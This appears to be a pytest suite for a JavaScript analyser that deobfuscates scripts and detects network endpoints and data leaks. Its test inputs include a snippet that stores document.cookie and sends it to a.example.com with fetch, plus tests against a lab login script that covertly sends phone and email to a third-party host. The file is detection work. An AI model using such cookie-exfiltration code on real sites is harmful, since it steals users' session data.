from __future__ import annotations

import gc
import random
import time
from concurrent.futures import ProcessPoolExecutor
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from undertow.analysis import facts as module
from undertow.analysis import read_script
from undertow.analysis.collecting import few_collections
from undertow.model import ScriptFacts
from undertow.model.codec import decode, encode

FIXTURES = Path(__file__).parent / "fixtures"
BRIGHTWATER = Path(module.__file__).parents[1] / "lab/apps/brightwater/site/cdn.brightwater.test/assets"
URL = b'fetch("https://a.example.com/x")'


@pytest.mark.parametrize("name", ["gate.light.411", "gate.medium.411", "gate.heavy.411", "gate.heavy.580"])
def test_an_obfuscated_script_says_what_its_source_says(name: str) -> None:
    plain = read_script((FIXTURES / "gate.js").read_bytes())
    hidden = read_script((FIXTURES / f"{name}.js").read_bytes())
    assert [(e.url, e.host, e.sink, e.method) for e in plain.endpoints] == [
        (e.url, e.host, e.sink, e.method) for e in hidden.endpoints
    ]
    assert {(f.data, f.sink, f.host) for f in plain.flows} == {(f.data, f.sink, f.host) for f in hidden.flows}
    assert not plain.decoded_strings and not any(e.decoded for e in plain.endpoints)
    assert all(e.decoded for e in hidden.endpoints) or name == "gate.light.411"


def test_places_of_an_obfuscated_script_are_those_delivered() -> None:
    source = (FIXTURES / "gate.heavy.580.js").read_bytes()
    facts = read_script(source)
    (endpoint,) = facts.endpoints
    start, end = endpoint.excerpt.span
    assert endpoint.excerpt.original.rstrip("…") in source[start:end].decode()
    assert "red-willow" in endpoint.excerpt.decoded and "red-willow" not in endpoint.excerpt.original
    (flow,) = [f for f in facts.flows if f.data == "phone"]
    assert source[slice(*flow.function_span)].startswith(b"async function") and source[
        flow.function_span[1] - 1
    ] == ord("}")
    assert flow.function_span[0] < flow.sink_span[0] < flow.sink_span[1] < flow.function_span[1]
    assert flow.function_span in facts.network_functions


@pytest.mark.skipif(not BRIGHTWATER.is_dir(), reason="the lab's scripts are not built")
def test_the_hidden_carrier_is_found_in_the_reference_app() -> None:
    (path,) = BRIGHTWATER.glob("login.*.js")
    source = path.read_bytes()
    facts = read_script(source)
    assert b"cmpassport" not in source
    assert {e.host for e in facts.endpoints if e.decoded and e.host} == {"verify.cmpassport.com"}
    assert [hit.id for hit in facts.signatures] == ["cm-h5-ydrz"]
    sent = {(f.data, f.host) for f in facts.flows if f.tier == "precise"}
    assert {("phone", "verify.cmpassport.com"), ("email", "verify.cmpassport.com")} <= sent


def test_the_same_bytes_give_the_same_facts() -> None:
    source = (FIXTURES / "gate.heavy.411.js").read_bytes()
    first = encode(read_script(source))
    assert encode(read_script(source)) == first
    with ProcessPoolExecutor(1) as pool:
        assert encode(pool.submit(read_script, source).result()) == first


def test_facts_survive_the_codec() -> None:
    facts = read_script((FIXTURES / "gate.heavy.411.js").read_bytes())
    assert decode(encode(facts), ScriptFacts, what="facts") == facts


def test_a_script_that_is_too_large_is_searched_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MAX_BYTES", 1_000)
    facts = read_script(b"x();" * 300 + URL, url="https://cdn.example/app.js")
    (gap,) = facts.gaps
    assert (gap.kind, gap.where, gap.hides_findings) == ("script-too-large", "https://cdn.example/app.js", True)
    assert not facts.parsed and [e.host for e in facts.endpoints] == ["a.example.com"]


@pytest.mark.parametrize(
    "source",
    [
        b"\0" * 500,
        b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(20_000),  # noqa: S311 - a fixed sample
        random.Random(2).randbytes(5_000).translate(bytes(i % 95 + 32 for i in range(256))),  # noqa: S311 - likewise
        b"<!doctype html><html><body><p>hi</p>" * 50,
    ],
    ids=["zeros", "picture", "noise", "page"],
)
def test_what_is_no_script_is_a_gap(source: bytes) -> None:
    facts = read_script(source)
    assert not facts.parsed and [g.kind for g in facts.gaps] == ["script-not-parsed"]


@pytest.mark.parametrize(
    "source", [b"", b"\n", b"// only a comment", b"\xef\xbb\xbf" + URL, URL.replace(b"x", "é".encode())]
)
def test_harmless_oddities_are_no_gap(source: bytes) -> None:
    facts = read_script(source)
    assert facts.parsed and not facts.gaps


def test_names_of_what_is_kept_may_hold_bytes_that_are_no_text() -> None:
    get = b"function get(k){return localStorage.getItem(`\xff\xfe${k}`)}"
    put = b"function put(k,v){localStorage.setItem(`\xff\xfe${k}`,v)}"
    facts = read_script(get + put + b"put('mail',document.cookie);fetch('https://a.example.com/?'+get('mail'));")
    assert {f.source for f in facts.flows} >= {"document.cookie"}


def test_a_damaged_place_is_a_gap_and_the_rest_is_read() -> None:
    facts = read_script(b"var a = = 3;\n" + URL + b"\nvar b=1;" * 20)
    assert [g.kind for g in facts.gaps] == ["script-partly-parsed"] and facts.parsed
    assert [e.host for e in facts.endpoints] == ["a.example.com"]


DEEP = {
    "parentheses": b"fetch(" + b"(" * 3_000 + b'"https://a.example.com/x"' + b")" * 3_001,
    "functions": b"function f(){" * 2_000 + URL + b"}" * 2_000,
    "arrows": b"a=>(" * 2_000 + URL + b")" * 2_000,
    "concatenation": b'fetch("https://a.example.com/x"' + b"+y" * 5_000 + b")",
    "templates": b"fetch(" + b"`${" * 1_000 + b'"https://a.example.com/x"' + b"}`" * 1_000 + b")",
    "conditions": b"if(a)" * 2_000 + URL,
    "members": b"x" + b".a" * 5_000 + b"=" + URL,
    "calls around a source": b'fetch("https://a.example.com/x?"+' + b"f(" * 8_000 + b"document.cookie" + b")" * 8_001,
    "objects": b"x=" + b"{a:" * 2_000 + URL + b"}" * 2_000,
}


@pytest.mark.parametrize("source", DEEP.values(), ids=DEEP)
def test_deep_nesting_is_read_in_bounded_time(source: bytes) -> None:
    before = time.process_time()
    facts = read_script(source)
    assert "a.example.com" in {e.host for e in facts.endpoints}
    assert time.process_time() - before < 20


@pytest.mark.parametrize("size", [10, 1 << 20])
def test_what_reads_scripts_is_left_with_the_collector_it_had(size: int) -> None:
    before = gc.get_threshold()
    with pytest.raises(KeyboardInterrupt), few_collections(size):
        assert gc.get_threshold() != before
        raise KeyboardInterrupt
    assert gc.get_threshold() == before and gc.isenabled()


def test_a_hanging_decoder_is_a_gap() -> None:
    source = b"var a=['aa','bb','cc'];function g(i){while(a[i]);}x(g(0));x(g(1));" + URL
    facts = read_script(source)
    assert [g.kind for g in facts.gaps] == ["decode-stopped"]
    assert [e.host for e in facts.endpoints] == ["a.example.com"]


@settings(max_examples=60, deadline=None)
@given(st.one_of(st.binary(max_size=300), st.text(max_size=200).map(lambda t: t.encode("utf-8", "replace"))))
def test_any_bytes_give_facts(source: bytes) -> None:
    facts = read_script(source)
    assert facts.size == len(source)
    encode(facts)
